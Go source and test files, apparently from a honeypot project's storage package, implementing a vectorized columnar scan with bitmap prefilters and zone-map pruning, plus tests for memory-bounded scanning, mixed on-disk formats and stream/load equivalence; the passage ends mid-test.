// criterion: peak heap growth during a streaming scan must be a small
// fraction of the materialized dataset size.
func TestScanMemoryBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("memory-profile test")
	}
	const n = 30000
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 128 << 10})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < n; i++ {
		if err := s.Append(benchRecord(i)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	// Keep GC pacing tight so short-lived decode garbage cannot mimic a
	// materialization leak: growth reflects live cursor state, not pacing.
	old := debug.SetGCPercent(10)
	defer debug.SetGCPercent(old)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	cur := s.Scan(TimeRange{}, nil)
	count := 0
	var peak uint64
	var ms runtime.MemStats
	for cur.Next() {
		count++
		if count%2000 == 0 {
			runtime.ReadMemStats(&ms)
			if ms.HeapAlloc > before.HeapAlloc && ms.HeapAlloc-before.HeapAlloc > peak {
				peak = ms.HeapAlloc - before.HeapAlloc
			}
		}
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	if count != n {
		t.Fatalf("scanned %d records, want %d", count, n)
	}
	// ~30k records at ~400B JSON each is >10 MB materialized. A
	// block-bounded scan with 128 KiB blocks plus GC slack should stay
	// far under half of that; 6 MB is a generous ceiling that still
	// fails hard if the cursor starts materializing segments.
	if peak > 6<<20 {
		t.Fatalf("scan peak heap growth %d bytes exceeds block-bounded ceiling", peak)
	}
}
