package store

import (
	"io"
	"math/bits"
	"regexp"
	"time"

	"honeynet/internal/session"
)

// The vectorized scan over v3 columnar blocks. A query's predicate
// tree compiles once (compileVec) into leaves that run column-at-a-time
// over a whole block's decoded stripes, producing a Kleene selection
// bitmap pair (lo = definitely true, hi = possibly true): leaves the
// columns can decide exactly set lo == hi, anything else (an opaque
// field, a raw-overflow row) widens to unknown. Rows with hi clear are
// skipped before any per-row decode; rows with hi set materialize and
// still pass through the cursor's authoritative per-record filter, so
// the bitmap is a pure prefilter and can never change results. The
// same leaves answer block-level tri-valued questions against the
// directory's zone maps (min/max start time, kind and protocol
// presence masks), pruning whole blocks before any stripe decompresses.

// vecLeafKind tags what a vectorized leaf reads.
type vecLeafKind int

const (
	vecUnknown vecLeafKind = iota // not column-decidable: whole column unknown
	vecTime                       // start time vs the meta stripe's tnanos
	vecKind                       // session kind vs the meta stripe's kind bytes
	vecProto                      // protocol vs the dictionary-coded column
	vecIP                         // client IP vs the raw fragment bytes
)

// vecNode is one compiled predicate node.
type vecNode struct {
	op   PredOp // PredCmp = leaf
	kids []*vecNode

	leaf vecLeafKind
	cmp  CmpOp
	val  Value
	re   *regexp.Regexp
	tv   int64  // vecTime: comparison instant, unix nanoseconds
	kv   int64  // vecKind: comparison kind
	qv   []byte // vecIP: the quoted JSON fragment an equal IP encodes to
}

// vecProg is a compiled prefilter: the node tree plus the field columns
// its leaves read.
type vecProg struct {
	root *vecNode
	cols session.ColumnSet
}

// compileVec builds the vectorized prefilter for a scan: the predicate
// tree, the exact-IP route, and the pushed time range, conjoined. It
// returns nil when nothing is column-decidable (the prefilter would
// select everything).
func compileVec(p *Pred, ip string, tr TimeRange) *vecProg {
	prog := &vecProg{}
	var kids []*vecNode
	if !tr.From.IsZero() && tnanoSafe(tr.From.Year()) {
		kids = append(kids, &vecNode{op: PredCmp, leaf: vecTime, cmp: CmpGe, tv: tr.From.UnixNano()})
	}
	if !tr.To.IsZero() && tnanoSafe(tr.To.Year()) {
		kids = append(kids, &vecNode{op: PredCmp, leaf: vecTime, cmp: CmpLt, tv: tr.To.UnixNano()})
	}
	if ip != "" {
		if q, ok := quoteIP(ip); ok {
			kids = append(kids, &vecNode{op: PredCmp, leaf: vecIP, cmp: CmpEq, qv: q})
			prog.cols |= 1 << uint(session.ColClientIP)
		}
	}
	if p != nil {
		kids = append(kids, prog.compile(p))
	}
	useful := false
	for _, k := range kids {
		if k.decidesAnything() {
			useful = true
		}
	}
	if !useful {
		return nil
	}
	if len(kids) == 1 {
		prog.root = kids[0]
	} else {
		prog.root = &vecNode{op: PredAnd, kids: kids}
	}
	return prog
}

func (n *vecNode) decidesAnything() bool {
	if n.op != PredCmp {
		for _, k := range n.kids {
			if k.decidesAnything() {
				return true
			}
		}
		return false
	}
	return n.leaf != vecUnknown
}

// compile lowers one predicate node.
func (g *vecProg) compile(p *Pred) *vecNode {
	switch p.Op {
	case PredAnd, PredOr, PredNot:
		n := &vecNode{op: p.Op, kids: make([]*vecNode, len(p.Kids))}
		for i, k := range p.Kids {
			n.kids[i] = g.compile(k)
		}
		return n
	}
	n := &vecNode{op: PredCmp, cmp: p.Cmp, val: p.Val, re: p.Re}
	switch p.Field {
	case FieldStart:
		if p.Cmp != CmpMatch && p.Cmp != CmpNotMatch &&
			(p.Val.Kind == ValTime || p.Val.Kind == ValMonth || p.Val.Kind == ValDay) &&
			tnanoSafe(p.Val.Time.Year()) {
			n.leaf, n.tv = vecTime, p.Val.Time.UnixNano()
		}
	case FieldKind:
		if p.Cmp != CmpMatch && p.Cmp != CmpNotMatch &&
			(p.Val.Kind == ValSessionKind || p.Val.Kind == ValInt) {
			n.leaf, n.kv = vecKind, p.Val.Int
		}
	case FieldProto:
		n.leaf = vecProto
	case FieldIP:
		if (p.Cmp == CmpEq || p.Cmp == CmpNe) && p.Val.Kind == ValString {
			if q, ok := quoteIP(p.Val.Str); ok {
				n.leaf, n.qv = vecIP, q
			}
		}
	}
	if n.leaf == vecIP {
		g.cols |= 1 << uint(session.ColClientIP)
	}
	return n
}

// quoteIP returns the exact JSON string fragment a client IP encodes
// to, when the address is plain enough that byte equality on fragments
// equals string equality on decoded values (no JSON escaping).
func quoteIP(s string) ([]byte, bool) {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x20 || c >= 0x7f || c == '"' || c == '\\' || c == '<' || c == '>' || c == '&' {
			return nil, false
		}
	}
	q := make([]byte, 0, len(s)+2)
	q = append(q, '"')
	q = append(q, s...)
	return append(q, '"'), true
}

// blockTri answers the node against a block directory's zone maps:
// triFalse means no row in the block can match and the block is pruned
// unread.
func (n *vecNode) blockTri(d *colDir) tri {
	switch n.op {
	case PredAnd:
		out := triTrue
		for _, k := range n.kids {
			switch k.blockTri(d) {
			case triFalse:
				return triFalse
			case triUnknown:
				out = triUnknown
			}
		}
		return out
	case PredOr:
		out := triFalse
		for _, k := range n.kids {
			switch k.blockTri(d) {
			case triTrue:
				return triTrue
			case triUnknown:
				out = triUnknown
			}
		}
		return out
	case PredNot:
		return triNot(n.kids[0].blockTri(d))
	}
	switch n.leaf {
	case vecTime:
		if !d.tnOK {
			return triUnknown
		}
		return triIntervalI64(d.minT, d.maxT, n.cmp, n.tv)
	case vecKind:
		if n.kv < 0 || n.kv > 7 {
			return triUnknown
		}
		bit := byte(1) << uint(n.kv)
		switch n.cmp {
		case CmpEq:
			if d.kindMask&bit == 0 {
				return triFalse
			}
			if d.kindMask == bit {
				return triTrue
			}
		case CmpNe:
			if d.kindMask == bit {
				return triFalse
			}
			if d.kindMask&bit == 0 {
				return triTrue
			}
		}
		return triUnknown
	case vecProto:
		// The directory records presence of ssh, telnet, and "anything
		// else"; a decision needs the mask to pin every row's verdict.
		all, any := true, false
		for bit, proto := range map[byte]string{1: session.ProtoSSH, 2: session.ProtoTelnet} {
			if d.protoMask&bit == 0 {
				continue
			}
			if evalCmp(StringValue(proto), n.cmp, n.val, n.re) {
				any = true
			} else {
				all = false
			}
		}
		if d.protoMask&4 != 0 {
			return triUnknown // rows with unlisted protocols: undecidable here
		}
		switch {
		case !any:
			return triFalse
		case all:
			return triTrue
		}
		return triUnknown
	}
	return triUnknown
}

// triIntervalI64 decides cmp(x, v) knowing only x ∈ [lo, hi].
func triIntervalI64(lo, hi int64, cmp CmpOp, v int64) tri {
	all := func(b bool) tri {
		if b {
			return triTrue
		}
		return triUnknown
	}
	switch cmp {
	case CmpLt:
		if lo >= v {
			return triFalse
		}
		return all(hi < v)
	case CmpLe:
		if lo > v {
			return triFalse
		}
		return all(hi <= v)
	case CmpGt:
		if hi <= v {
			return triFalse
		}
		return all(lo > v)
	case CmpGe:
		if hi < v {
			return triFalse
		}
		return all(lo >= v)
	case CmpEq:
		if v < lo || v > hi {
			return triFalse
		}
		if lo == hi && lo == v {
			return triTrue
		}
		return triUnknown
	case CmpNe:
		return triNot(triIntervalI64(lo, hi, CmpEq, v))
	}
	return triUnknown
}

// vecEnv is one block's decoded column state, handed to leaf kernels.
type vecEnv struct {
	sc   *colScratch
	rows int
	tnOK bool
}

// bitmap helpers: bitmaps are []uint64 with rows bits; trailing bits of
// the last word are kept zero for lo / one-masked handling in callers.

func bmWords(rows int) int { return (rows + 63) / 64 }

func bmZero(b []uint64) {
	for i := range b {
		b[i] = 0
	}
}

func bmFill(b []uint64, rows int) {
	for i := range b {
		b[i] = ^uint64(0)
	}
	if rows%64 != 0 {
		b[len(b)-1] = (1 << uint(rows%64)) - 1
	}
}

func bmAnd(dst, src []uint64) {
	for i := range dst {
		dst[i] &= src[i]
	}
}

func bmOr(dst, src []uint64) {
	for i := range dst {
		dst[i] |= src[i]
	}
}

// bmNot complements in place within rows bits.
func bmNot(b []uint64, rows int) {
	for i := range b {
		b[i] = ^b[i]
	}
	if rows%64 != 0 {
		b[len(b)-1] &= (1 << uint(rows%64)) - 1
	}
}

func bmCount(b []uint64) int {
	n := 0
	for _, w := range b {
		n += bits.OnesCount64(w)
	}
	return n
}

func bmSet(b []uint64, i int) { b[i>>6] |= 1 << uint(i&63) }

func bmHas(b []uint64, i int) bool { return b[i>>6]&(1<<uint(i&63)) != 0 }

// bmNext returns the first set bit at or after i, or rows.
func bmNext(b []uint64, i, rows int) int {
	for i < rows {
		w := b[i>>6] >> uint(i&63)
		if w != 0 {
			i += bits.TrailingZeros64(w)
			if i >= rows {
				return rows
			}
			return i
		}
		i = (i>>6 + 1) << 6
	}
	return rows
}

// bmAlloc carves bitmap space out of the scratch arena.
type bmAlloc struct {
	arena *[]uint64
	used  int
}

func (a *bmAlloc) get(words int) []uint64 {
	need := a.used + words
	if cap(*a.arena) < need {
		next := make([]uint64, need*2)
		copy(next, (*a.arena)[:a.used])
		*a.arena = next
	}
	*a.arena = (*a.arena)[:cap(*a.arena)]
	b := (*a.arena)[a.used:need]
	a.used = need
	return b
}

// eval computes the node's Kleene bitmap pair over the block: lo bits
// are definitely-true rows, hi bits possibly-true rows.
func (n *vecNode) eval(env *vecEnv, a *bmAlloc, lo, hi []uint64) {
	rows := env.rows
	switch n.op {
	case PredAnd:
		bmFill(lo, rows)
		bmFill(hi, rows)
		klo, khi := a.get(len(lo)), a.get(len(hi))
		for _, k := range n.kids {
			k.eval(env, a, klo, khi)
			bmAnd(lo, klo)
			bmAnd(hi, khi)
		}
		return
	case PredOr:
		bmZero(lo)
		bmZero(hi)
		klo, khi := a.get(len(lo)), a.get(len(hi))
		for _, k := range n.kids {
			k.eval(env, a, klo, khi)
			bmOr(lo, klo)
			bmOr(hi, khi)
		}
		return
	case PredNot:
		// NOT swaps and complements the pair: lo' = ^hi, hi' = ^lo.
		n.kids[0].eval(env, a, hi, lo)
		bmNot(lo, rows)
		bmNot(hi, rows)
		return
	}
	n.evalLeaf(env, lo, hi)
}

// evalLeaf runs one column kernel. Exact verdicts set lo == hi; rows a
// column cannot decide (raw-overflow rows for field leaves, a block
// without safe nanoseconds for time leaves) get lo=0, hi=1.
func (n *vecNode) evalLeaf(env *vecEnv, lo, hi []uint64) {
	rows := env.rows
	sc := env.sc
	switch n.leaf {
	case vecTime:
		if !env.tnOK {
			bmZero(lo)
			bmFill(hi, rows)
			return
		}
		bmZero(lo)
		for i, t := range sc.tnanos {
			if cmpI64(t, n.tv, n.cmp) {
				bmSet(lo, i)
			}
		}
		copy(hi, lo)
	case vecKind:
		bmZero(lo)
		for i, k := range sc.kinds {
			if cmpI64(int64(k), n.kv, n.cmp) {
				bmSet(lo, i)
			}
		}
		copy(hi, lo)
	case vecProto:
		// Evaluate once per dictionary entry, then scatter by index.
		var verdict [16]bool
		ok := len(sc.dict) <= len(verdict)
		if ok {
			for j, p := range sc.dict {
				verdict[j] = evalCmp(StringValue(p), n.cmp, n.val, n.re)
			}
			bmZero(lo)
			for i, di := range sc.protos {
				if verdict[di] {
					bmSet(lo, i)
				}
			}
			copy(hi, lo)
			return
		}
		bmZero(lo)
		bmFill(hi, rows)
	case vecIP:
		cd := &sc.cols[session.ColClientIP]
		bmZero(lo)
		bmZero(hi)
		for i := 0; i < rows; i++ {
			frag := cd.frag(i)
			if frag == nil {
				bmSet(hi, i) // raw-overflow row: unknown
				continue
			}
			eq := bytesEqual(frag, n.qv)
			if n.cmp == CmpNe {
				eq = !eq
			}
			if eq {
				bmSet(lo, i)
				bmSet(hi, i)
			}
		}
	default:
		bmZero(lo)
		bmFill(hi, rows)
	}
}

func bytesEqual(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func cmpI64(a, b int64, cmp CmpOp) bool {
	switch cmp {
	case CmpEq:
		return a == b
	case CmpNe:
		return a != b
	case CmpLt:
		return a < b
	case CmpLe:
		return a <= b
	case CmpGt:
		return a > b
	case CmpGe:
		return a >= b
	}
	return false
}

// colCursor scans one v3 segment under a field mask and compiled
// prefilter: per block it reads the directory, asks the zone maps
// whether the block can match at all, evaluates the prefilter over
// just the predicate's columns, and only then loads the projected
// columns and materializes the selected rows.
type colCursor struct {
	cs    *colSeg
	prog  *vecProg
	mask  session.FieldMask
	stats *PlanStats

	bi     int
	rows   int
	row    int
	dir    colDir
	sel    []uint64
	loaded session.ColumnSet
	pre    session.ColumnSet // columns prefilled from sidecars, stripes unread
	rawOK  bool

	need    session.ColumnSet // ColumnsForMask(mask), cached
	asm     session.Columns
	colIdx  []int  // loaded∩need columns materialize refreshes per row
	ipArena string // block's client_ip stripe, one string alloc per block
	dec     *session.JSONDecoder
	ar      *recArena
}

// openColCursor opens a masked scan over one v3 segment.
func (s *Store) openColCursor(meta *segmentMeta, prog *vecProg, mask session.FieldMask, stats *PlanStats, dec *session.JSONDecoder, ar *recArena) (*colCursor, error) {
	cs, err := s.openColSeg(meta)
	if err != nil {
		return nil, err
	}
	return &colCursor{
		cs: cs, prog: prog, mask: mask, stats: stats,
		need: session.ColumnsForMask(mask), dec: dec, ar: ar,
	}, nil
}

func (cc *colCursor) close() error { return cc.cs.close() }

// next returns the next selected record, or io.EOF.
func (cc *colCursor) next() (*session.Record, error) {
	for {
		if cc.row >= cc.rows {
			ok, err := cc.nextBlock()
			if err != nil {
				return nil, err
			}
			if !ok {
				return nil, io.EOF
			}
			continue
		}
		i := bmNext(cc.sel, cc.row, cc.rows)
		if i >= cc.rows {
			cc.row = cc.rows
			continue
		}
		cc.row = i + 1
		r, err := cc.materialize(i)
		if err != nil {
			return nil, err
		}
		if cc.stats != nil {
			cc.stats.ScannedRecords++
		}
		return r, nil
	}
}

// nextBlock advances to the next block that survives zone pruning and
// prefiltering, loading its projected columns. Returns false at EOF.
func (cc *colCursor) nextBlock() (bool, error) {
	for cc.bi < len(cc.cs.meta.Blocks) {
		bi := cc.bi
		cc.bi++
		if err := cc.cs.readDir(bi, &cc.dir); err != nil {
			return false, err
		}
		if cc.prog != nil && cc.prog.root.blockTri(&cc.dir) == triFalse {
			if cc.stats != nil {
				cc.stats.BlocksZonePruned++
				cc.stats.BlocksSkipped++
			}
			continue
		}
		if err := cc.cs.loadSidecars(&cc.dir, cc.stats); err != nil {
			return false, err
		}
		if cc.cs.s != nil {
			cc.cs.s.blocksRead.Add(1)
		}
		if cc.stats != nil {
			cc.stats.BlocksRead++
		}
		rows := cc.dir.rows
		words := bmWords(rows)
		a := bmAlloc{arena: &cc.cs.sc.bm}
		cc.sel = a.get(words)
		cc.loaded = 0
		cc.rawOK = false

		if cc.prog != nil {
			// Phase 1: only the predicate's columns, then evaluate.
			if err := cc.loadCols(cc.prog.cols); err != nil {
				return false, err
			}
			lo := a.get(words)
			env := &vecEnv{sc: cc.cs.sc, rows: rows, tnOK: len(cc.cs.sc.tnanos) == rows}
			cc.prog.root.eval(env, &a, lo, cc.sel)
			if bmCount(cc.sel) == 0 {
				continue
			}
		} else {
			bmFill(cc.sel, rows)
		}

		// Phase 2: the projection's columns, plus raw overflow. The
		// meta sidecar already holds the protocol (via the dictionary)
		// and — when the block's timestamps round-trip through nanos —
		// the start time verbatim, so those stripes are never loaded:
		// materialize prefills the fields from the sidecar instead.
		cc.pre = session.ColumnSet(1 << uint(session.ColProto))
		if len(cc.cs.sc.tnanos) == rows {
			cc.pre |= 1 << uint(session.ColStart)
		}
		if err := cc.loadCols(cc.need &^ cc.pre); err != nil {
			return false, err
		}
		// Same idea for client_ip, with the loaded stripe itself as the
		// source: when the writer asserted (directory plain bit) that
		// every fragment in the block is a plain quoted ASCII string,
		// one string copy of the whole stripe replaces a per-row
		// parse-and-allocate — rows slice it, quotes stripped. A
		// retained record pins its block's copy; that is bounded by the
		// block size, the same order as the record's own strings.
		cc.ipArena = ""
		if cc.mask&session.FClientIP != 0 && cc.dir.plain.Has(session.ColClientIP) {
			if cd := &cc.cs.sc.cols[session.ColClientIP]; cc.loaded.Has(session.ColClientIP) && cd.lens != nil {
				cc.ipArena = string(cd.data)
				cc.pre |= 1 << uint(session.ColClientIP)
			}
		}
		if err := cc.cs.loadRaw(&cc.dir, cc.stats); err != nil {
			return false, err
		}
		cc.rawOK = true
		cc.asmRebuild()
		cc.rows, cc.row = rows, 0
		return true, nil
	}
	return false, nil
}

// asmRebuild refreshes the per-row assembly plan after the block's
// loaded set changes: columns the decode will never consult go nil
// once, so materialize touches only the live ones per row. The decoder
// reads only ColumnsForMask(mask) columns, and the reassembly fallback
// only feeds a masked decode, so loaded predicate-only columns outside
// that set can stay nil too.
func (cc *colCursor) asmRebuild() {
	cc.colIdx = cc.colIdx[:0]
	reads := cc.loaded & cc.need &^ cc.pre
	for c := 0; c < session.NumColumns; c++ {
		if reads.Has(c) {
			cc.colIdx = append(cc.colIdx, c)
		} else {
			cc.asm[c] = nil
		}
	}
}

// loadCols loads the not-yet-loaded columns of the set.
func (cc *colCursor) loadCols(set session.ColumnSet) error {
	for c := 0; c < session.NumColumns; c++ {
		if !set.Has(c) || cc.loaded.Has(c) {
			continue
		}
		if err := cc.cs.loadCol(&cc.dir, c, cc.stats); err != nil {
			return err
		}
		cc.loaded |= 1 << uint(c)
	}
	return nil
}

// materialize decodes row i under the cursor's mask: raw rows through
// the whole-line decoder, shredded rows column-directly, falling back
// to reassembly plus the whole-line decoder if a fragment bails.
func (cc *colCursor) materialize(i int) (*session.Record, error) {
	sc := cc.cs.sc
	r := cc.ar.alloc()
	if line := sc.raw.frag(i); line != nil {
		if err := cc.dec.DecodeMasked(line, r, cc.mask); err != nil {
			return nil, err
		}
		return r, nil
	}
	for _, c := range cc.colIdx {
		cc.asm[c] = sc.cols[c].frag(i)
	}
	// Arena records arrive zeroed, so the sidecar values can go straight
	// into the record and the decoder skips those columns entirely.
	if cc.pre.Has(session.ColStart) {
		r.Start = time.Unix(0, sc.tnanos[i]).UTC()
	}
	if cc.pre.Has(session.ColProto) {
		r.Protocol = sc.dict[sc.protos[i]]
	}
	if cc.pre.Has(session.ColClientIP) {
		cd := &sc.cols[session.ColClientIP]
		if l := cd.lens[i]; l >= 2 {
			off := cd.off[i]
			r.ClientIP = cc.ipArena[off+1 : off+l-1]
		}
	}
	if cc.dec.DecodeColumnsPrefilled(&cc.asm, r, cc.mask, cc.pre) {
		return r, nil
	}
	if cc.pre != 0 {
		// The fallback reassembles a whole line, which needs the real
		// fragments of the prefilled columns: load their stripes and
		// stop prefilling for the rest of this block.
		if err := cc.loadCols(cc.pre); err != nil {
			return nil, err
		}
		cc.pre = 0
		cc.asmRebuild()
		for _, c := range cc.colIdx {
			cc.asm[c] = sc.cols[c].frag(i)
		}
	}
	// A loaded-column subset assembles to a valid canonical line whose
	// masked decode matches the full line's: omitted columns are either
	// outside the mask (never stored) or absent in the original too.
	sc.lineBuf = session.AppendAssembled(sc.lineBuf[:0], &cc.asm)
	if err := cc.dec.DecodeMasked(sc.lineBuf, r, cc.mask); err != nil {
		return nil, err
	}
	return r, nil
}
