package store

import (
	"reflect"
	"testing"
	"time"

	"honeynet/internal/session"
)

// Mixed-format coverage: one store (or fleet) whose sealed segments
// span every on-disk generation — v1 (DEFLATE rows), v2 (LZ rows), v3
// (columnar stripes) — must behave byte-identically to a uniform
// store over the same records. The manifest records each segment's
// codec, so readers dispatch per segment; nothing else may care.

// mixedStore seals three chunks of recs into dir, one per format
// generation, by reopening the store with different options between
// seals. Chunks interleave months, so single months end up holding
// segments of several formats at once.
func mixedStore(t *testing.T, dir string, recs []*session.Record) {
	t.Helper()
	phases := []Options{
		{Codec: CodecFlate}, // v1
		{Codec: CodecLZ},    // v2
		{Format: FormatV3},  // v3
	}
	chunk := (len(recs) + len(phases) - 1) / len(phases)
	for pi, opt := range phases {
		opt.BlockBytes = 2048
		s, err := Open(dir, opt)
		if err != nil {
			t.Fatal(err)
		}
		lo, hi := pi*chunk, (pi+1)*chunk
		if hi > len(recs) {
			hi = len(recs)
		}
		for _, r := range recs[lo:hi] {
			if err := s.Append(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := s.Seal(); err != nil {
			t.Fatal(err)
		}
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

func TestMixedFormatStore(t *testing.T) {
	recs := make([]*session.Record, 0, 600)
	for i := 0; i < 600; i++ {
		recs = append(recs, mkRecord(i%3, i))
	}
	dir := t.TempDir()
	mixedStore(t, dir, recs)

	mixed, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer mixed.Close()

	// The store must actually be mixed: all three codecs on disk.
	man, _ := mixed.snapshot()
	codecs := map[string]bool{}
	for _, seg := range man.Segments {
		codecs[seg.Codec] = true
	}
	if len(codecs) != 3 || !codecs[FormatV3] {
		t.Fatalf("expected three segment generations, manifest has %v", codecs)
	}

	ref := openFmt(t, t.TempDir(), "")
	defer ref.Close()
	sealAll(t, ref, recs)

	// Load: identical records in identical order.
	a, err := ref.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	b, err := mixed.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("mixed-format Load differs from uniform (lengths %d vs %d)", len(a), len(b))
	}

	// Stream: same sequence again, through the per-format readers.
	got := drainStream(t, mixed.Stream())
	if !reflect.DeepEqual(got, a) {
		t.Fatalf("mixed-format Stream differs from uniform Load")
	}

	// RunQuery: every route — predicate scan, IP/Bloom, aggregate,
	// ORDER BY pushdown — returns the same rows from both stores.
	queries := []*Query{
		{Where: Cmp(FieldProto, CmpEq, StringValue(session.ProtoSSH))},
		{Where: Cmp(FieldKind, CmpEq, KindValue(session.CommandExec)),
			Select: []Field{FieldIP, FieldStart}},
		{IP: recs[123].ClientIP},
		{Time: Month(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)), Limit: 9},
		{OrderBy: FieldPort, Desc: true, Limit: 11},
		{GroupBy: []Field{FieldProto}, Aggs: []AggSpec{{Op: AggCount}}},
	}
	for qi, q := range queries {
		if !reflect.DeepEqual(runIDsOrGroups(t, ref, q), runIDsOrGroups(t, mixed, q)) {
			t.Fatalf("query %d: mixed store result differs from uniform", qi)
		}
	}
}

// runIDsOrGroups runs q and flattens the result to a comparable shape:
// record IDs for row mode, group rows for aggregate mode.
func runIDsOrGroups(t *testing.T, s *Store, q *Query) interface{} {
	t.Helper()
	res, err := s.RunQuery(q)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	if res.Aggregated() {
		return res.Groups()
	}
	var ids []uint64
	for res.Next() {
		ids = append(ids, res.Record().ID)
	}
	if err := res.Err(); err != nil {
		t.Fatal(err)
	}
	return ids
}

// TestMixedFormatFleet: a fleet whose shards were written by nodes
// running different store generations must scatter-gather exactly like
// a uniform fleet.
func TestMixedFormatFleet(t *testing.T) {
	build := func(formats []Options) *Fleet {
		dir := t.TempDir()
		if err := WriteFleetMarker(dir); err != nil {
			t.Fatal(err)
		}
		for ni, node := range []string{"n-a", "n-b", "n-c"} {
			opt := formats[ni]
			opt.BlockBytes = 2048
			sh, err := Open(ShardDir(dir, node), opt)
			if err != nil {
				t.Fatal(err)
			}
			for i := 0; i < 120; i++ {
				if err := sh.Append(mkRecord(i%2, i*3+ni)); err != nil {
					t.Fatal(err)
				}
			}
			if err := sh.Seal(); err != nil {
				t.Fatal(err)
			}
			if err := sh.Close(); err != nil {
				t.Fatal(err)
			}
		}
		fl, err := OpenFleet(dir, Options{ReadOnly: true})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { fl.Close() })
		return fl
	}
	uniform := build([]Options{{}, {}, {}})
	mixed := build([]Options{{Codec: CodecFlate}, {}, {Format: FormatV3}})

	wantRecs, err := uniform.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	gotRecs, err := mixed.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(wantRecs, gotRecs) {
		t.Fatalf("mixed fleet Load differs from uniform")
	}

	queries := []*Query{
		{Where: Cmp(FieldProto, CmpEq, StringValue(session.ProtoTelnet))},
		{OrderBy: FieldIP, Limit: 13},
		{GroupBy: []Field{FieldKind}, Aggs: []AggSpec{{Op: AggCount}}},
	}
	collect := func(fl *Fleet, q *Query) interface{} {
		res, err := fl.RunQuery(q)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Close()
		if res.Aggregated() {
			return res.Groups()
		}
		var ids []uint64
		for res.Next() {
			ids = append(ids, res.Record().ID)
		}
		if err := res.Err(); err != nil {
			t.Fatal(err)
		}
		return ids
	}
	for qi, q := range queries {
		if !reflect.DeepEqual(collect(uniform, q), collect(mixed, q)) {
			t.Fatalf("fleet query %d: mixed result differs from uniform", qi)
		}
	}
}
