package store

import (
	"reflect"
	"sort"
	"testing"
	"time"

	"honeynet/internal/session"
)

// drainStream collects a StreamCursor for comparison against Load.
func drainStream(t *testing.T, c *StreamCursor) []*session.Record {
	t.Helper()
	var out []*session.Record
	for c.Next() {
		out = append(out, c.Record())
	}
	if err := c.Err(); err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestStreamMatchesLoad: Stream must yield exactly Load's sequence —
// sealed segments merged by seq plus the live tail — for both the row
// and columnar formats.
func TestStreamMatchesLoad(t *testing.T) {
	for _, format := range []string{"v2", FormatV3} {
		t.Run(format, func(t *testing.T) {
			s := openFmt(t, t.TempDir(), format)
			defer s.Close()
			fill(t, s, 500, 3)
			if err := s.Seal(); err != nil {
				t.Fatal(err)
			}
			// Leave a live unsealed tail on top of the sealed segments.
			for i := 500; i < 560; i++ {
				if err := s.Append(mkRecord(i%3, i)); err != nil {
					t.Fatal(err)
				}
			}

			want, err := s.Load(4)
			if err != nil {
				t.Fatal(err)
			}
			got := drainStream(t, s.Stream())
			if len(got) != len(want) {
				t.Fatalf("stream yielded %d records, Load %d", len(got), len(want))
			}
			for i := range want {
				if !reflect.DeepEqual(got[i], want[i]) {
					t.Fatalf("record %d differs:\n stream %+v\n   load %+v", i, got[i], want[i])
				}
			}
		})
	}
}

// TestFleetStreamMatchesLoad: the month-at-a-time fleet stream must
// reproduce Fleet.Load's canonical (Start, node, seq) order exactly,
// including cross-node Start ties.
func TestFleetStreamMatchesLoad(t *testing.T) {
	dir := t.TempDir()
	if err := WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	nodes := []string{"edge-a", "edge-b", "edge-c"}
	perNode := 150
	for ni, node := range nodes {
		// Mix formats across shards: the stream must not care.
		format := ""
		if ni == 1 {
			format = FormatV3
		}
		sh, err := Open(ShardDir(dir, node), Options{BlockBytes: 2048, Format: format})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < perNode; i++ {
			r := mkRecord(i%3, i*len(nodes)+ni)
			if i%3 == 0 {
				// Exact Start ties across nodes exercise the node tiebreak.
				r.Start = mkRecord(0, i).Start
				r.End = r.Start.Add(45 * time.Second)
			}
			if err := sh.Append(r); err != nil {
				t.Fatal(err)
			}
		}
		if ni != 2 { // two shards sealed, one with a live tail
			if err := sh.Seal(); err != nil {
				t.Fatal(err)
			}
		}
		if err := sh.Close(); err != nil {
			t.Fatal(err)
		}
	}

	fl, err := OpenFleet(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	want, err := fl.Load(4)
	if err != nil {
		t.Fatal(err)
	}
	fs := fl.Stream()
	var got []*session.Record
	for fs.Next() {
		got = append(got, fs.Record())
	}
	if err := fs.Err(); err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("fleet stream yielded %d records, Load %d", len(got), len(want))
	}
	for i := range want {
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Fatalf("record %d differs:\n stream %+v\n   load %+v", i, got[i], want[i])
		}
	}
}

// TestOrderByLimitMatchesFullSort: the pushed-down top-k heap must
// return exactly what a stable full sort of the unordered result would
// — same keys, same tie order (store order) — for asc and desc, with
// and without LIMIT, on both formats.
func TestOrderByLimitMatchesFullSort(t *testing.T) {
	for _, format := range []string{"v2", FormatV3} {
		t.Run(format, func(t *testing.T) {
			s := openFmt(t, t.TempDir(), format)
			defer s.Close()
			recs := make([]*session.Record, 0, 900)
			for i := 0; i < 900; i++ {
				recs = append(recs, mkRecord(i%2, i))
			}
			sealAll(t, s, recs)

